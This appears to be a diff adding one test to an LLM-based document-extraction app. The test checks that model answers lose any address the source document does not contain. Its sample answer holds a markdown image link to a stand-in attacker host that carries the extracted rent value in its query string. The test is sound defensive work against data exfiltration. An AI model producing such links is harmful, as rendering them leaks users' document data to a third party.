@@ -148,6 +148,16 @@ def test_answering_again_counts_for_the_budget(documents, fieldset, user, answer
     assert sum(cell.input_tokens + cell.output_tokens for cell in Cell.objects.all()) == 480
 
 
+def test_values_have_no_addresses_that_the_document_does_not_contain(documents, fieldset, user, answering_model):
+    value = {"value": "See ![rent](//evil.example/?rent=900)", "quotes": ["rent is EUR 900"]}
+    answering_model.choose = lambda _: says_answers(value, {"value": ["evil.example/900"], "quotes": []})
+    extract = start(fieldset, user, documents=[documents[0].pk])
+    run_jobs()
+    cells = Cell.objects.filter(row__extract=extract)
+    assert sorted(cells.values_list("raw", flat=True)) == ["See ![rent]((address removed))", '["(address removed)"]']
+    assert "evil" not in str(list(cells.values()))
+
+
 def test_a_cancelled_extract_asks_nothing_more(documents, fieldset, user, answering_model):
     extract = start(fieldset, user)
     extract.rows.update(code="llm_unavailable")  # of an earlier attempt
